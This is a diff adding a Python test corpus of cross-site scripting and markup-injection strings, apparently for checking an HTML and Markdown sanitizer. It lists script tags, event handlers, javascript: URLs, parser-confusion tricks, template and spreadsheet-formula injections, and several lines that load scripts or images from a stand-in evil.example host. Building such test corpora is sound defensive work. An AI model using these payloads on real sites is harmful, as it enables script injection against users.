@@ -1,0 +1,80 @@
+"""Markdown and HTML that would act if it could."""
+
+from __future__ import annotations
+
+MARK = "markup-attack"
+"""Stands in every address that a text would have fetched."""
+RAN = "window.__ran=(window.__ran||0)+1"
+
+CORPUS = [
+    # HTML that runs a script.
+    f"<script>{RAN}</script>",
+    f"<SCRIPT>{RAN}//",
+    f"</textarea><script>{RAN}</script>",
+    f"</title><script>{RAN}</script>",
+    f"</script><script>{RAN}</script>",
+    f'"><script>{RAN}</script>',
+    f"'><script>{RAN}</script>",
+    f"<scr<script>ipt>{RAN}</scr</script>ipt>",
+    f"<script src=/{MARK}/a.js></script>",
+    f"<script src=//evil.example/{MARK}.js></script>",
+    f"<script type=module>import '/{MARK}/a.mjs'</script>",
+    f"<!--><script>{RAN}</script>-->",
+    f"<![CDATA[<script>{RAN}</script>]]>",
+    # Elements that act by themselves.
+    f'<img src="/{MARK}/x.png" onerror="{RAN}">',
+    f"<img src=x:/{MARK} onerror={RAN}>",
+    f'<svg onload="{RAN}"></svg>',
+    f"<svg><script>{RAN}</script></svg>",
+    f'<svg><animate onbegin="{RAN}" attributeName=x dur=1s></svg>',
+    f'<svg><a xlink:href="javascript:{RAN}"><text>x</text></a></svg>',
+    f'<math><mtext></form><form><mglyph><style></math><img src onerror="{RAN}">',
+    f'<body onload="{RAN}">',
+    f'<iframe src="javascript:{RAN}"></iframe>',
+    f'<iframe srcdoc="<script>parent.{RAN}</script>"></iframe>',
+    f'<iframe src="/{MARK}/frame"></iframe>',
+    f'<object data="/{MARK}/x.swf"></object>',
+    f'<embed src="/{MARK}/x.swf">',
+    f'<video src="/{MARK}/x.mp4" onerror="{RAN}" autoplay></video>',
+    f'<audio src="/{MARK}/x.mp3" onerror="{RAN}"></audio>',
+    f'<details open ontoggle="{RAN}">x</details>',
+    f'<input autofocus onfocus="{RAN}">',
+    f'<marquee onstart="{RAN}">x</marquee>',
+    f'<form action="/{MARK}/post" method="post"><button autofocus onfocus="{RAN}">x</button></form>',
+    f'<meta http-equiv="refresh" content="0;url=/{MARK}/away">',
+    f'<link rel="stylesheet" href="/{MARK}/x.css">',
+    f'<base href="//evil.example/{MARK}/">',
+    f"<style>@import '/{MARK}/x.css'; body {{ display: none }}</style>",
+    f'<p style="background:url(/{MARK}/x.png)">x</p>',
+    f'<template><script>{RAN}</script></template><slot onslotchange="{RAN}"></slot>',
+    f'<noscript><p title="</noscript><img src=x:/{MARK} onerror={RAN}>"></noscript>',
+    f'<a href="javascript:{RAN}" autofocus>x</a>',
+    f'<a href="jav&#x09;ascript:{RAN}">x</a>',
+    f'<div hx-get="/{MARK}/htmx" hx-trigger="load">x</div>',
+    f'<div data-hx-get="/{MARK}/htmx" data-hx-trigger="load" hx-on:load="{RAN}">x</div>',
+    f'<div data-figure="x" id="chart-templates">{{"x": "{RAN}"}}</div>',
+    # Markdown that becomes such.
+    f"[x](javascript:{RAN})",
+    f"[x](JaVaScRiPt:{RAN})",
+    f"[x](java\nscript:{RAN})",
+    f"[x](&#106;avascript:{RAN})",
+    f"[x](data:text/html;base64,PHNjcmlwdD4{MARK})",
+    f"[x](vbscript:{RAN})",
+    f'[x](https://example.org "onmouseover={RAN}")',
+    f'[x](<https://example.org/" onmouseover="{RAN}>)',
+    f"<javascript:{RAN}>",
+    f"![x](/{MARK}/picture.png)",
+    f"![x](https://evil.example/{MARK}.png)",
+    f'![x"onerror="{RAN}](x:/{MARK})',
+    f"[ref]: javascript:{RAN}\n[ref]",
+    f"```<script>{RAN}</script>\n```\n`<img src=x:/{MARK} onerror={RAN}>`",
+    f"| a | b |\n|---|---|\n| <script>{RAN}</script> | <img src=x:/{MARK} onerror={RAN}> |",
+    f"> <svg onload={RAN}>\n\n1. <iframe src=/{MARK}/f></iframe>",
+    # What templates, spreadsheets and terminals would take for their own.
+    "{{ 7|add:7 }} {% load static %} ${7*7} #{7*7}",
+    '=HYPERLINK("https://evil.example") \u2028 &lt;script&gt;',
+    "\ufeff&#60;script&#62;window.__ran=1&#60;/script&#62;",
+    "<" * 400 + "a" + ">" * 400,
+    # What cannot be seen: refused by most fields, and inert where a machine has sent it.
+    f"\x1b]0;x\x07\u202e<script>{RAN}</script>",
+]
